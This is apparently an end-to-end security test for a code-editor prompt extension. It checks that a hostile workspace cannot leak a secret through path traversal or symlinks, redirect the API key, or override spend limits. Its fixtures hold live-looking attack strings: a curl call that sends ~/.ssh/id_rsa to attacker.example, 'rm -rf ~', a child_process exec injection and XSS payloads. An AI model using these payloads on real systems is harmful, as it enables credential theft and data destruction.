// A stranger's repository, opened in the real workbench with Workspace Trust on: prompts that name
// a file outside the workspace (by `..` and by a symbolic link), a history folder that is a link
// out, a `.vscode/settings.json` that raises the spend limits, zeroes the prices and redirects the
// API, and a prompt whose model id and keys carry injection strings. Opened in Restricted Mode,
// then trusted, then run: the simulator never sees a byte of the secret, no file outside the
// workspace changes, and the spend guard uses the user's own limits.
import * as assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import type { Page } from 'playwright-core';
import { start, type Simulator } from '../simulator/server';
import { costStatusItem, editorTitleAction, FAKE_API_KEY, quickOpen, runFromPalette, useWorkbenchSession, waitForActivation, waitUntil } from './workbenchSession';

const API_KEY = FAKE_API_KEY;
const SECRET = `aws_secret_access_key=${'Zx9'.repeat(12)}-the-users-own`;
const USER_MAX_RUN_COST = 0.05;

/** Every file under `dir` except `skip`, with its contents (or the link it is), to compare before and after. */
function snapshot(dir: string, skip: string): Record<string, string> {
  const result: Record<string, string> = {};
  const walk = (folder: string): void => {
    for (const name of readdirSync(folder)) {
      const full = join(folder, name);
      if (full === skip) continue;
      const stats = statSync(full, { throwIfNoEntry: false });
      if (stats?.isDirectory()) walk(full);
      else result[relative(dir, full)] = stats ? readFileSync(full, 'utf8') : '(dangling)';
    }
  };
  walk(dir);
  return result;
}

const injectionKeys = ['$(touch PWNED-key)', '`id`; rm -rf ~', "x'); require('child_process').exec('touch PWNED-js'); ('", 'line\nbreak\u2028and separator'];
const injectedRequest = {
  model: 'claude-haiku-4-5',
  max_tokens: 40,
  metadata: { user_id: '"; $(curl https://attacker.example/$(cat ~/.ssh/id_rsa)) #' },
  tools: [
    {
      name: 'lookup',
      description: '<img src=x onerror=alert(1)> [x](command:workbench.action.terminal.new)',
      input_schema: { type: 'object', properties: Object.fromEntries(injectionKeys.map((key) => [key, { type: 'string' }])) },
    },
  ],
  messages: [{ role: 'user', content: 'Say hello.' }],
};

const hostileModel = 'claude-haiku-4-5`$(touch PWNED-model)`<img src=x onerror=alert(1)>[run](command:workbench.action.terminal.new)';

async function statusText(page: Page): Promise<string> {
  return ((await costStatusItem(page).innerText().catch(() => '')) || '').trim();
}

/** The status bar item's hover, as text (hovering it as a person would). */
async function statusTooltip(page: Page): Promise<string> {
  const hover = page.locator('.workbench-hover, .monaco-hover').filter({ hasText: /tok|estimate|count/i }).last();
  return waitUntil('the status bar tooltip', async () => {
    await page.mouse.move(10, 10);
    await costStatusItem(page).hover();
    await hover.waitFor({ timeout: 3_000 }).catch(() => undefined);
    return (await hover.isVisible()) ? hover.innerText() : undefined;
  }, 30_000, 500);
}

/** Runs a prompt from the ▶ in its editor title, once its tab is the active one. */
async function runPrompt(page: Page, fileName: string): Promise<void> {
  await quickOpen(page, fileName);
  await page.locator(`.tab.active[aria-label*="${fileName}"]`).first().waitFor({ timeout: 30_000 });
  await editorTitleAction(page, 'Run Prompt').first().click();
}

describe('a hostile workspace: Restricted Mode, then trusted, then run (end-to-end)', function () {
  this.timeout(600_000);
  let evil: Simulator;
  let base: string;
  let outsideBefore: Record<string, string>;

  // The second simulator (where the workspace's settings try to send the key) and the folder around the workspace, first.
  before(async () => {
    evil = await start({ port: 0 });
    base = mkdtempSync(join(tmpdir(), 'pw-hostile-'));
    writeFileSync(join(base, 'secret.txt'), SECRET);
    mkdirSync(join(base, 'outside-history'));
    writeFileSync(join(base, 'outside-history', 'injected.jsonl'), '# not history: a file of the user\n');
  });
  const zero = { input: 0, output: 0, cacheWrite5m: 0, cacheWrite1h: 0, cacheRead: 0 };
  // Restricted Mode: the extension need not activate before the first test.
  const workbench = useWorkbenchSession({
    activate: false,
    session: (sim) => ({
      workspaceTrust: true,
      workspaceParent: base,
      env: { ANTHROPIC_API_KEY: API_KEY },
      machineSettings: { 'promptWorkbench.apiBaseUrl': sim.url },
      userSettings: {
        'security.workspace.trust.startupPrompt': 'never',
        'workbench.startupEditor': 'none',
        'workbench.secondarySideBar.defaultVisibility': 'hidden',
        'promptWorkbench.maxRunCostUsd': USER_MAX_RUN_COST,
        'promptWorkbench.confirmAboveUsd': 1,
      },
      files: {
        '.vscode/settings.json': JSON.stringify({
          'promptWorkbench.apiBaseUrl': evil.url,
          'promptWorkbench.maxRunCostUsd': 1_000_000,
          'promptWorkbench.confirmAboveUsd': 1_000_000,
          'promptWorkbench.priceOverrides': { 'claude-opus-5-5': zero, 'claude-haiku-4-5': zero },
          'promptWorkbench.maxReferencedFileMB': 100_000,
        }),
        'prompts/leak.prompt.json': JSON.stringify({
          name: 'Leak',
          variables: { ctx: { file: '../../secret.txt' }, notes: { file: 'notes.md' } },
          request: { model: 'claude-haiku-4-5', max_tokens: 40, messages: [{ role: 'user', content: 'Context: {{ctx}} Notes: {{notes}}' }] },
        }),
        // JSON.stringify leaves U+2028 raw; a file written by hand escapes it (and the editor would ask about it).
        'prompts/injected.prompt.json': JSON.stringify({ name: '$(touch PWNED-name)', request: injectedRequest }).replace(/\u2028/g, '\\u2028'),
        'prompts/model.prompt.json': JSON.stringify({ name: 'Model', request: { model: hostileModel, max_tokens: 40, messages: [{ role: 'user', content: 'Hi.' }] } }),
        'prompts/expensive.prompt.json': JSON.stringify({
          name: 'Expensive',
          request: { model: 'claude-opus-5-5', max_tokens: 32_000, messages: [{ role: 'user', content: 'Write a very long essay.' }] },
        }),
      },
      prepareWorkspace: (workspace) => {
        symlinkSync(join(base, 'secret.txt'), join(workspace, 'prompts', 'notes.md'));
        symlinkSync(join(base, 'outside-history'), join(workspace, 'prompts', '.prompt-history'));
      },
    }),
    cleanup: async () => {
      await evil?.close();
      if (base) rmSync(base, { recursive: true, force: true });
    },
  });
  before(() => {
    outsideBefore = snapshot(base, workbench.session.workspace);
  });

  it('in Restricted Mode reads no named file, counts offline only, and says the exact count comes once trusted', async () => {
    const page = workbench.session.page;
    await quickOpen(page, 'leak.prompt.json');
    // workspaceContains does not always fire in Restricted Mode here; a command activates the
    // extension as a person would (Set API Key, then Escape: nothing is stored or sent).
    await runFromPalette(page, 'Prompt Workbench: Set API Key');
    await waitForActivation(workbench.session);
    await page.keyboard.press('Escape');
    await quickOpen(page, 'leak.prompt.json');
    await waitUntil('the offline estimate in the status bar', async () => ((await statusText(page)).includes('~') ? true : undefined), 60_000, 250);
    assert.match(await statusTooltip(page), /trust this folder/i);
    // Well past the count delay: nothing was sent at all, neither count_tokens nor the Models API.
    await new Promise((resolve) => setTimeout(resolve, 2_000));
    assert.deepEqual(workbench.sim.requests.map((r) => r.endpoint), [], 'no request in Restricted Mode');
    assert.equal(evil.requests.length, 0);
  });

  it('once trusted, refuses the files outside the workspace instead of reading them', async () => {
    const page = workbench.session.page;
    await runFromPalette(page, 'Manage Workspace Trust');
    const trust = page.locator('.workspace-trust-editor .monaco-button', { hasText: /^\s*Trust\s*$/ }).first();
    await trust.waitFor({ timeout: 30_000 });
    await trust.click();
    await page.locator('.workspace-trust-editor', { hasText: 'You trust this folder' }).first().waitFor({ timeout: 30_000 });
    // The trust editor opens as a modal over the workbench: close it with its close button, as a person would.
    await waitUntil('the trust editor to close', async () => {
      if (!(await page.locator('.workspace-trust-editor').first().isVisible())) return true;
      const buttons = page.locator('.action-label[aria-label^="Close"], .codicon-close');
      for (let i = (await buttons.count()) - 1; i >= 0; i--) {
        const button = buttons.nth(i);
        const box = await button.boundingBox().catch(() => null);
        // The modal's own header (the editor tabs' close buttons sit higher, behind it).
        if (box && box.y > 100 && box.y < 160) {
          await button.click({ force: true }).catch(() => undefined);
          break;
        }
      }
      await page.locator('.workspace-trust-editor').first().waitFor({ state: 'hidden', timeout: 2_000 }).catch(() => undefined);
      return undefined;
    }, 30_000, 250).catch(async (error: unknown) => {
      const header = await page.locator('.workspace-trust-editor').first().evaluate((node) => node.closest('[class*="modal"]')?.outerHTML.slice(0, 3000) ?? node.parentElement?.parentElement?.outerHTML.slice(0, 3000));
      process.stderr.write(`[e2e] trust editor container: ${header}\n`);
      throw error;
    });
    await quickOpen(page, 'leak.prompt.json');
    await waitUntil('the refusals in the status bar', async () => ((await statusText(page)).includes('2 problems') ? true : undefined), 60_000, 250);
    await quickOpen(page, 'model.prompt.json');
    await waitUntil('a count for the prompt with the hostile model id', () => workbench.sim.requests.some((r) => r.endpoint === 'count_tokens') || undefined, 60_000, 250);
  });

  it('runs a prompt with injection strings as data, and writes no history through the linked folder', async () => {
    const page = workbench.session.page;
    await runPrompt(page, 'injected.prompt.json');
    const sent = await waitUntil('the run request', () => workbench.sim.requests.find((r) => r.endpoint === 'messages'), 90_000, 250);
    const body = sent.body as Record<string, unknown>;
    assert.deepEqual(body['tools'], injectedRequest.tools, 'the keys arrive exactly as written, as data');
    assert.deepEqual(body['metadata'], injectedRequest.metadata);
    await waitUntil('the run to finish', () => workbench.sim.requests.filter((r) => r.endpoint === 'messages').length === 1 || undefined, 30_000, 250);
    await new Promise((resolve) => setTimeout(resolve, 2_000));
    assert.deepEqual(readdirSync(join(base, 'outside-history')), ['injected.jsonl'], 'nothing written through the linked history folder');
    assert.equal(readFileSync(join(base, 'outside-history', 'injected.jsonl'), 'utf8'), '# not history: a file of the user\n');
  });

  it('refuses a run above the user limit, whatever the workspace settings say', async () => {
    const page = workbench.session.page;
    await runPrompt(page, 'expensive.prompt.json');
    // The guard counts the input before it decides; then it must refuse, sending nothing.
    await waitUntil('the spend check to count the expensive prompt', () => workbench.sim.requests.some((r) => r.endpoint === 'count_tokens' && (r.body as { model?: string }).model === 'claude-opus-5-5') || undefined, 60_000, 250);
    await new Promise((resolve) => setTimeout(resolve, 3_000));
    assert.equal(workbench.sim.requests.filter((r) => r.endpoint === 'messages' && (r.body as { model?: string }).model === 'claude-opus-5-5').length, 0, 'nothing sent');
  });

  it('sent no byte of the secret, changed no file outside the workspace, and never used the workspace server', () => {
    const everything = JSON.stringify(workbench.sim.requests.map((r) => [r.body, r.headers]));
    for (let i = 0; i + 12 <= SECRET.length; i += 6) assert.ok(!everything.includes(SECRET.slice(i, i + 12)), `no part of the secret (${i})`);
    assert.equal(evil.requests.length, 0, 'the workspace cannot redirect the key');
    assert.deepEqual(snapshot(base, workbench.session.workspace), outsideBefore, 'no file outside the workspace changed');
    for (const name of ['PWNED-key', 'PWNED-js', 'PWNED-name', 'PWNED-model']) {
      assert.equal(existsSync(join(workbench.session.workspace, name)) || existsSync(join(workbench.session.workspace, 'prompts', name)), false, `${name} was not created`);
    }
  });
});
